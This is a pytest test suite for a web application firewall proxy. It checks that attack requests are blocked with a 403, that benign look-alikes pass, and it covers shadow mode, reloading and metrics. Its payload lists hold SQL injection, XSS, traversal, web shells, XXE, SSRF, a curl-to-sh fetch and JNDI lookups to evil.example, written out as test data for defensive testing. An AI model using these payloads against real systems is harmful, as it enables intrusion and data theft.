"""The WAF through the real proxy and test origin (configs/rules.waf.yaml at paranoia 1).

Every category is blocked with a 403 that names the rule ids and the request id and never
reaches the origin (its per-path hit counter proves it); look-alike benign requests pass with
their content intact; shadow mode forwards the payload and counts `would_block`; bodies larger
than the inspection window arrive byte-identical; a pathological megabyte is answered quickly;
the audit event, the access-log field and the metric are written; rules reload without restart
and a broken rule file never replaces a working one.
"""

from __future__ import annotations

import base64
import hashlib
import json
import time
import uuid
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote, unquote_plus

import httpx
import pytest
import yaml

from harness import CONFIGS_DIR, Stack

WAF_RULES = CONFIGS_DIR / "rules.waf.yaml"


def unique() -> str:
    return uuid.uuid4().hex[:12]


def js_escape(text: str) -> str:
    return "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in text)


def multipart(field: str, value: str, filename: str | None = None) -> tuple[bytes, str]:
    boundary = "----e2eBoundary" + unique()
    disposition = f'form-data; name="{field}"' + (f'; filename="{filename}"' if filename else "")
    body = (
        f"--{boundary}\r\nContent-Disposition: {disposition}\r\n\r\n{value}\r\n--{boundary}--\r\n"
    ).encode()
    return body, f"multipart/form-data; boundary={boundary}"


# (category, how the attack is sent): each is sent to a fresh /debug/echo/<id> path, so the
# origin's hit counter for that path tells whether anything got through.
def _query(name: str, value: str) -> dict[str, Any]:
    return {"method": "GET", "params": {name: value}}


def _json(value: Any) -> dict[str, Any]:
    return {"method": "POST", "json": value}


def _form(value: str) -> dict[str, Any]:
    return {"method": "POST", "data": {"comment": value}}


def _header(name: str, value: str) -> dict[str, Any]:
    return {"method": "GET", "headers": {name: value}}


ATTACKS: list[tuple[str, dict[str, Any]]] = [
    ("sqli", _query("id", "1' UNION SELECT username, password FROM users--")),
    ("sqli", _json({"user": "admin' OR '1'='1"})),
    ("sqli", _query("q", quote("1' AND SLEEP(5)--", safe=""))),  # double URL-encoded on the wire
    ("xss", _query("q", "<script>alert(document.cookie)</script>")),
    ("xss", _form('<img src=x onerror="alert(1)">')),
    ("xss", _query("q", js_escape("<svg onload=alert(1)>"))),
    ("traversal", _query("file", "../../../../etc/passwd")),
    ("traversal", _header("X-File", "..%2f..%2f..%2fwindows%2fwin.ini")),
    ("rce", _query("host", "127.0.0.1; cat /etc/passwd")),
    ("rce", _json({"cmd": "$(curl -s http://evil.example/x.sh | sh)"})),
    ("php", _form("<?php system($_GET['c']); ?>")),
    ("java", _header("X-Api-Version", "${jndi:ldap://evil.example/a}")),
    ("java", _header("User-Agent", "${${lower:j}ndi:${lower:r}mi://evil.example/x}")),
    ("ssti", _query("name", "{{7*7}}")),
    ("ssti", _json({"template": "{{ config.__class__.__init__.__globals__['os'] }}"})),
    ("ssi", _form('<!--#exec cmd="id" -->')),
    ("ssrf", _query("url", "http://169.254.169.254/latest/meta-data/iam/")),
    ("ssrf", _json({"webhook": "http://127.0.0.1:6379/"})),
    ("nosql", {"method": "GET", "params": {"user[$ne]": "x", "pass[$ne]": "x"}}),
    ("nosql", _json({"username": {"$gt": ""}, "password": {"$gt": ""}})),
    ("ldap", _query("user", "*)(uid=*))(|(uid=*")),
    ("mail", _form("victim@example.com\r\nBcc: spam@evil.example")),
    ("crlf", _query("next", "/home\r\nSet-Cookie: admin=1")),
    ("scanner", _header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
    ("scanner", _header("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")),
    ("base64", _query("data", base64.b64encode(b"' OR 1=1--").decode())),
    ("cookie", _header("Cookie", "session=1; pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
]


@pytest.mark.parametrize(
    ("category", "spec"), ATTACKS, ids=[f"{c}-{i}" for i, (c, _) in enumerate(ATTACKS)]
)
def test_attack_blocked_before_the_origin(
    stack: Stack, client: httpx.Client, category: str, spec: dict[str, Any]
) -> None:
    path = f"/debug/echo/waf-{category}-{unique()}"
    options = dict(spec)
    method = options.pop("method")
    response = client.request(method, path, **options)
    assert response.status_code == 403, (category, response.status_code, response.text[:300])
    body = response.json()
    assert body["request_id"] == response.headers["X-Request-ID"]
    assert body["rule_ids"] and all(isinstance(r, str) for r in body["rule_ids"])
    assert response.headers["Cache-Control"] == "no-store"
    assert stack.hits(path) == 0


def _multipart_attack(value: str, filename: str | None = None) -> dict[str, Any]:
    body, content_type = multipart("comment", value, filename)
    return {"method": "POST", "content": body, "headers": {"Content-Type": content_type}}


def _xml_attack(body: str) -> dict[str, Any]:
    return {"method": "POST", "content": body.encode(), "headers": {"Content-Type": "text/xml"}}


BODY_ATTACKS: list[tuple[str, dict[str, Any]]] = [
    ("multipart-sqli", _multipart_attack("1' UNION SELECT null, version()--")),
    ("multipart-filename", _multipart_attack("x", filename="../../../../etc/passwd")),
    ("multipart-webshell", _multipart_attack("<?php eval($_POST['x']); ?>", filename="a.php")),
    (
        "xml-xxe",
        _xml_attack(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
        ),
    ),
    ("xml-value", _xml_attack("<r><q>&lt;script&gt;alert(1)&lt;/script&gt;</q></r>")),
    ("graphql", {"method": "POST", "json": {"query": '{ user(name: "x\' OR 1=1--") { id } }'}}),
]


@pytest.mark.parametrize(("name", "spec"), BODY_ATTACKS, ids=[n for n, _ in BODY_ATTACKS])
def test_body_attacks_blocked(
    stack: Stack, client: httpx.Client, name: str, spec: dict[str, Any]
) -> None:
    path = f"/debug/echo/waf-{name}-{unique()}"
    options = dict(spec)
    response = client.request(options.pop("method"), path, **options)
    assert response.status_code == 403, (name, response.text[:300])
    assert stack.hits(path) == 0


BENIGN: list[tuple[str, dict[str, Any], str]] = [
    ("sqli", _query("q", "select a plan; union station; 2 or 1 more"), "union station"),
    ("names", _json({"author": "Seán O'Brien", "comment": "It's D'Angelo's"}), "O'Brien"),
    ("xss", _form('<p>Great <b>post</b>! <a href="https://example.com">link</a></p>'), "<b>"),
    ("markdown", _json({"comment": "# Title\n\n* item\n\n```python\nprint('hi')\n```"}), "print"),
    ("code", _json({"code": "SELECT id, name FROM customers WHERE country = 'DE';"}), "SELECT"),
    ("shell-words", _query("q", "curl command examples and echo dot"), "echo dot"),
    ("traversal", _query("q", "AC/DC 50/50 and ../shared/docs"), "AC/DC"),
    ("url", _query("next", "https://partner.example.com/page?x=1"), "partner.example.com"),
    ("template", _json({"text": "Hello {{ user.name }}, your total is ${total}"}), "user.name"),
    ("agent", _header("User-Agent", "curl/8.5.0"), "curl/8.5.0"),
    ("email", _form("jane.o'brien+news@example.ie"), "example.ie"),
]


@pytest.mark.parametrize(("name", "spec", "needle"), BENIGN, ids=[n for n, _, _ in BENIGN])
def test_benign_lookalikes_pass_intact(
    client: httpx.Client, name: str, spec: dict[str, Any], needle: str
) -> None:
    path = f"/debug/echo/waf-ok-{name}-{unique()}"
    options = dict(spec)
    response = client.request(options.pop("method"), path, **options)
    assert response.status_code == 200, (name, response.text[:300])
    echo = response.json()
    seen = unquote_plus(echo["body_text"]) + json.dumps(echo["headers"])
    seen += unquote_plus(echo["query_string"])
    assert needle in seen or json.dumps(needle)[1:-1] in seen


def test_search_and_submit_endpoints(stack: Stack, client: httpx.Client) -> None:
    before = stack.hits("/search")
    assert client.get("/search", params={"q": "1' OR '1'='1"}).status_code == 403
    assert stack.hits("/search") == before
    ok = client.get("/search", params={"q": "O'Brien union station"})
    assert ok.status_code == 200 and "Brien" in ok.text
    assert stack.hits("/search") == before + 1
    before = stack.hits("/submit")
    assert client.post("/submit", data={"msg": "<script>alert(1)</script>"}).status_code == 403
    assert stack.hits("/submit") == before
    fields = client.post("/submit", data={"msg": "I'd select the blue one"}).json()["fields"]
    assert fields["msg"] == "I'd select the blue one"


def test_block_page_is_html_for_browsers(client: httpx.Client) -> None:
    response = client.get(
        "/search",
        params={"q": "<script>alert(1)</script>"},
        headers={"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"},
    )
    assert response.status_code == 403
    assert response.headers["Content-Type"].startswith("text/html")
    assert response.headers["X-Request-ID"] in response.text
    assert "xss-script-tag" in response.text and "<script>alert" not in response.text


def test_protocol_anomalies(stack: Stack) -> None:
    trace = stack.raw_request("TRACE", "/debug/echo/waf-trace")
    assert trace.status == 403
    null_byte = stack.raw_request("GET", "/debug/echo/waf-nul?file=a%00.jpg")
    assert null_byte.status == 403
    get_body = stack.raw_request("GET", "/debug/echo/waf-getbody", body=b"hello")
    assert get_body.status == 403


def test_metrics_count_decisions(stack: Stack, client: httpx.Client) -> None:
    before = stack.metrics().value(
        "openflare_waf_decisions_total", rule_id="xss-script-tag", action="block"
    )
    assert client.get("/search", params={"q": "<script>x</script>"}).status_code == 403
    after = stack.metrics().value(
        "openflare_waf_decisions_total", rule_id="xss-script-tag", action="block"
    )
    assert after == before + 1
    latency = stack.metrics().value("openflare_stage_duration_seconds_count", stage="waf")
    assert latency > 0


@pytest.mark.local_only
def test_audit_event_and_access_log(local_stack: Stack, client: httpx.Client) -> None:
    response = client.get("/search", params={"q": "1 UNION SELECT password FROM users"})
    assert response.status_code == 403
    request_id = response.headers["X-Request-ID"]
    assert local_stack.proxy is not None
    event = local_stack.proxy.wait_log(event="waf", request_id=request_id)
    assert event["decision"] == "block" and event["mode"] == "enforce"
    assert event["score"] >= 5 and event["threshold"] == 5
    rule = next(r for r in event["rules"] if r["id"] == "sqli-union-select")
    assert rule["target"] == "arg:q" and "union select" in rule["excerpt"].lower()
    assert len(rule["excerpt"]) <= 160
    access = local_stack.proxy.access_log(request_id)
    assert access["status"] == 403 and access["waf"].startswith("block:")
    assert "sqli-union-select" in access["waf"]


def test_upload_larger_than_the_inspection_window_arrives_intact(client: httpx.Client) -> None:
    """Seed defect 1: bodies above the inspection size were cut before forwarding."""
    body = bytes(range(256)) * 4096 + b"tail"  # 1 MiB + 4, > 64 KiB window
    response = client.post(
        "/upload", content=body, headers={"Content-Type": "application/octet-stream"}
    )
    assert response.status_code == 200, response.text
    assert response.json()["bytes"] == len(body)
    assert response.json()["sha256"] == hashlib.sha256(body).hexdigest()
    form = b"comment=" + b"a" * 100_000 + b"&end=1"
    echo = client.post(
        "/echo/body", content=form, headers={"Content-Type": "application/x-www-form-urlencoded"}
    ).json()
    assert echo["length"] == len(form) and echo["sha256"] == hashlib.sha256(form).hexdigest()


@pytest.mark.parametrize(
    "shape",
    [
        "' or " * 200_000,
        "<" * 500_000 + ">" * 500_000,
        "%25" * 340_000,
        "\\u" * 500_000,
        "{{${" * 250_000,
        "../" * 340_000,
    ],
    ids=["quotes", "brackets", "percent", "backslashes", "templates", "dots"],
)
def test_pathological_megabyte_is_answered_quickly(client: httpx.Client, shape: str) -> None:
    body = json.dumps({"v": shape}).encode()
    started = time.monotonic()
    response = client.post(
        f"/debug/echo/waf-big-{unique()}",
        content=body,
        headers={"Content-Type": "application/json"},
        timeout=30,
    )
    elapsed = time.monotonic() - started
    assert response.status_code in (200, 403)  # blocked or not: the point is the time
    assert elapsed < 10, elapsed


def _rules_copy(tmp_path: Path, **changes: Any) -> Path:
    data = yaml.safe_load(WAF_RULES.read_text())
    data.update(changes)
    path = tmp_path / "rules.waf.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


@pytest.mark.local_only
def test_shadow_mode_forwards_the_payload_and_counts_would_block(
    stack: Stack, proxy_factory: Any, tmp_path: Path
) -> None:
    rules = _rules_copy(tmp_path, mode="shadow")
    proxy = proxy_factory({"rule_files": {"waf": str(rules)}})
    path = f"/debug/echo/waf-shadow-{unique()}"
    payload = "1' UNION SELECT password FROM users--"
    with httpx.Client(base_url=proxy.url, headers={"Host": f"127.0.0.1:{proxy.port}"}) as c:
        response = c.get(path, params={"q": payload})
        assert response.status_code == 200, response.text
        assert parse_qs(response.json()["query_string"])["q"] == [payload]
        body = {"comment": "<script>alert(1)</script>"}
        echoed = c.post(path, json=body)
        assert echoed.status_code == 200 and "<script>" in echoed.json()["body_text"]
    assert stack.hits(path) == 2
    request_id = response.headers["X-Request-ID"]
    event = proxy.wait_log(event="waf", request_id=request_id)
    assert event["decision"] == "would_block" and event["mode"] == "shadow"
    assert proxy.access_log(request_id)["waf"].startswith("would_block:")
    metrics = httpx.get(proxy.admin_url + "/metrics").text
    assert 'openflare_waf_decisions_total{action="would_block",rule_id="sqli-union-select"}' in (
        metrics
    )


@pytest.mark.local_only
def test_rules_reload_without_restart_and_bad_files_are_refused(
    proxy_factory: Any, tmp_path: Path
) -> None:
    rules = _rules_copy(tmp_path)
    proxy = proxy_factory({"rule_files": {"waf": str(rules)}})
    admin = httpx.Client(
        base_url=proxy.admin_url, headers={"Authorization": f"Bearer {proxy.token}"}
    )
    public = httpx.Client(base_url=proxy.url, headers={"Host": f"127.0.0.1:{proxy.port}"})
    assert public.get("/search", params={"q": "canary-word"}).status_code == 200
    data = yaml.safe_load(rules.read_text())
    data["rules"].append(
        {
            "id": "canary",
            "match": {"any": [{"target": "args", "contains": "canary-word"}]},
            "action": {"type": "block", "status_code": 403},
        }
    )
    rules.write_text(yaml.safe_dump(data, sort_keys=False))
    assert admin.post("/admin/config/reload").json()["result"] == "ok"
    blocked = public.get("/search", params={"q": "canary-word"})
    assert blocked.status_code == 403 and blocked.json()["rule_ids"] == ["canary"]
    data["rules"][-1]["match"]["any"][0] = {"target": "args", "regex": "(?<=x)y"}
    rules.write_text(yaml.safe_dump(data, sort_keys=False))
    refused = admin.post("/admin/config/reload")
    assert refused.status_code == 422
    assert any("rules[canary]" in error for error in refused.json()["errors"])
    assert public.get("/search", params={"q": "canary-word"}).status_code == 403  # old rules
    admin.close()
    public.close()
